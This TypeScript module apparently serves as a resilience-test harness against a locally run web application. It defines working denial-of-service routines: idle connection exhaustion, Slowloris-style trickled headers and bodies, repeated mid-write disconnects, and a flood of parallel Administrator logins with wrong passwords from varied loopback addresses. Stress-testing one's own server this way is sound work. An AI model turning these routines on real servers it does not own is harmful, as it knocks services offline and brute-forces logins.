import { request as send } from 'node:http'
import { connect, type Socket } from 'node:net'

/** The server under abuse, and who may use it. */
export interface Target {
  readonly url: string
  readonly cookie: string
}

/** Something done to a server; answers how to end it. */
export type Attack = (target: Target) => Promise<() => Promise<string>>

const open = ({ url }: Target): Promise<Socket> => {
  const { hostname, port } = new URL(url)
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => resolve(socket))
    socket.once('error', reject)
    socket.on('error', () => {})
  })
}

async function many(target: Target, count: number): Promise<Socket[]> {
  const sockets: Socket[] = []
  for (let n = 0; n < count; n += 200) sockets.push(...(await Promise.all(Array.from({ length: Math.min(200, count - n) }, () => open(target)))))
  return sockets
}

const closeAll = (sockets: readonly Socket[]): string => {
  const lost = sockets.filter((socket) => socket.destroyed || socket.readableEnded).length
  for (const socket of sockets) socket.destroy()
  return `${sockets.length - lost} of ${sockets.length} were still open`
}

/** Connections that send nothing. */
export const idle =
  (count: number): Attack =>
  async (target) => {
    const sockets = await many(target, count)
    return async () => closeAll(sockets)
  }

/** Requests whose headers, or bodies, arrive a byte at a time. */
export const slow =
  (count: number): Attack =>
  async (target) => {
    const sockets = await many(target, count)
    const head = `POST /api/resource/Note HTTP/1.1\r\nhost: localhost\r\ncookie: ${target.cookie}\r\ncontent-type: application/json\r\ncontent-length: 20000000\r\n`
    for (const [n, socket] of sockets.entries()) socket.write(n % 2 ? head : `${head}\r\n{`)
    const timer = setInterval(() => {
      for (const [n, socket] of sockets.entries()) if (socket.writable) socket.write(n % 2 ? 'x: 1\r\n' : ' ')
    }, 250)
    return async () => {
      clearInterval(timer)
      return closeAll(sockets)
    }
  }

/** Clients that go away in the middle of a write, one after the other, for as long as it lasts. */
export const hangUps =
  (parallel: number): Attack =>
  async (target) => {
    let going = true
    let count = 0
    const body = JSON.stringify({ title: 'never read', content: 'x'.repeat(20_000) })
    const head = `POST /api/resource/Note HTTP/1.1\r\nhost: localhost\r\ncookie: ${target.cookie}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`
    const workers = Array.from({ length: parallel }, async (_, n) => {
      while (going) {
        const socket = await open(target)
        socket.write(n % 2 ? head + body : head + body.slice(0, 5_000))
        await new Promise((resolve) => setTimeout(resolve, count++ % 20))
        socket.destroy()
      }
    })
    return async () => {
      going = false
      await Promise.all(workers)
      return `${count} hung up`
    }
  }

/** Log-ins at once, half of them with a wrong password. */
export const logins =
  (count: number): Attack =>
  async (target) => {
    const started = performance.now()
    const all = Promise.all(Array.from({ length: count }, (_, n) => login(target, n % 2 ? 'admin' : 'wrong', `127.0.${n % 50}.1`)))
    return async () => {
      const statuses = Object.entries(Object.groupBy(await all, String)).map(([status, list]) => `${list?.length} × ${status}`)
      return `${statuses.join(', ')} after ${((performance.now() - started) / 1000).toFixed(1)} s`
    }
  }

/** From an address of its own, as far as loopback has them. */
function login({ url }: Target, pwd: string, localAddress: string): Promise<number> {
  const body = new URLSearchParams({ usr: 'Administrator', pwd }).toString()
  const headers = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': body.length }
  return new Promise((resolve) => {
    const request = send(`${url}/api/method/login`, { method: 'POST', localAddress, agent: false, headers }, (answer) => {
      answer.resume()
      answer.on('end', () => resolve(answer.statusCode ?? 0))
    })
    request.on('error', () => resolve(0))
    request.end(body)
  })
}
